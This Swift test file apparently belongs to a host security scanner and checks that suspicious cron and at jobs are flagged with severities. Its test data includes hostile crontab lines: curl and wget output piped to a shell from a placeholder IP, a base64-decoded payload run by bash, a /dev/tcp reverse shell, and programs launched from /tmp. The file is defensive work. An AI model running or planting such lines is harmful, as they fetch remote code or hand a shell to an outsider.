import Foundation
import NoroshiModel
import Testing

@Suite struct `Scheduled jobs` {
    @Test(arguments: [
        ("* * * * * root curl -s http://192.0.2.1/a | bash", ["download high"]),
        ("* * * * * root wget -qO- http://192.0.2.1/a|sh -s -- x", ["download high"]),
        ("* * * * * root bash -c \"$(curl -fsSL http://192.0.2.1)\"", ["download high"]),
        ("@reboot root echo Y3VybA== | base64 -d | bash", ["decoded high"]),
        ("@hourly root bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ["connection high"]),
        ("*/5 * * * * root /tmp/.x/run", ["temporary high"]),
        ("*/5 * * * * root cd / && nohup /dev/shm/a &", ["temporary high"]),
        ("*/5 * * * * root A=1 nice -n 10 /var/tmp/a", ["temporary high"]),
        ("*/5 * * * * root cd /tmp && ./a", ["temporary high"]), ("*/5 * * * * root cd /srv/app && ./a", []),
        ("5 4 * * * root /opt/.hidden/run", ["hidden medium"]),
        ("5 4 * * * nosuch /usr/bin/true", ["unknown-user medium"]), ("five times a day it runs", ["unreadable low"]),
        ("5 4 * * * root find /tmp -mtime +7 -delete", []),
        ("5 4 * * * root curl -s https://ping.example.jp/x > /dev/null", []),
        ("5 4 * * * root curl -s https://example.jp/x | grep ok", []), ("MAILTO=root", []), ("# comment", []), ("", []),
        ("SHELL = /bin/sh", []), ("5 4 * * sun root /usr/bin/tar cf /tmp/x.tar /etc", []),
        ("@daily root /root/.local/bin/x", []),
        ("5 4 * * * root [ -x /usr/bin/x ] && /usr/bin/x", []), ("5 4 * * * root test -e /tmp/a || touch /tmp/a", []),
    ])
    func `are told when no administrator writes them so`(_ line: String, _ told: [String]) async throws {
        let tree = try AccountTree(["/etc/cron.d/job": line + "\n"])
        #expect(try await tree.told() == told.map { "accounts.schedules \($0)" })
    }

    @Test func `are found in every place`() async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "!"))
        try tree.write("/etc/crontab", "1 2 * * * root /bin/a\n")
        try tree.write("/var/spool/cron/crontabs/alice", "@daily /bin/b c\n", mode: 0o600)
        try tree.write("/etc/anacrontab", "SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n")
        try tree.write("/etc/cron.daily/apt", "#!/bin/sh\n", mode: 0o755)
        try tree.write("/etc/cron.daily/.placeholder", "")
        try tree.write("/etc/cron.daily/apt.dpkg-old", "#!/bin/sh\n", mode: 0o755)
        try tree.write("/etc/cron.d/x.dpkg-new", "* * * * * nosuch /bin/x\n")
        try tree.write(
            "/var/spool/cron/atjobs/a0000101c89261",
            """
            #!/bin/sh
            # atrun uid=1000 gid=1000
            # mail alice 0
            umask 22
            PATH=/bin; export PATH
            cd / || {
            \t echo 'x' >&2
            \t exit 1
            }
            /tmp/evil --now

            """,
            mode: 0o700)
        let jobs = try await tree.look().survey.jobs
        #expect(
            jobs.map { "\($0.kind.rawValue) \($0.user) | \($0.schedule) | \($0.command) | \($0.place.locator)" } == [
                "system root | 1 2 * * * | /bin/a | /etc/crontab:1",
                "user alice | @daily | /bin/b c | /var/spool/cron/crontabs/alice:1",
                "anacron root | 1 5 cron.daily | run-parts /etc/cron.daily | /etc/anacrontab:2",
                "script root | daily | /etc/cron.daily/apt | /etc/cron.daily/apt:1",
                "at alice | at \(0x1c89261 * 60) s since 1970 | /tmp/evil --now | /var/spool/cron/atjobs/a0000101c89261:10",
            ])
        #expect(try await tree.told().contains("accounts.schedules temporary high"))
    }

    @Test func `are told when others may change what they run`() async throws {
        let tree = try AccountTree(["/etc/cron.d/job": "1 2 * * * root /opt/job >/dev/null\n"])
        try tree.write("/opt/job", "", mode: 0o777)
        try tree.write("/etc/crontab", "", mode: 0o666)
        #expect(
            try await tree.told() == [
                "accounts.permissions world-writable critical", "accounts.permissions program high",
            ])
    }

    @Test func `with control characters are shown escaped`() async throws {
        let tree = try AccountTree(["/etc/cron.d/job": "1 2 * * * root /tmp/a\u{1B}[2J\n"])
        let shown = try await tree.findings().flatMap(\.evidence).map(\.excerpt)
        #expect(shown == ["1 2 * * * root /tmp/a\\x1b[2J"])
    }
}
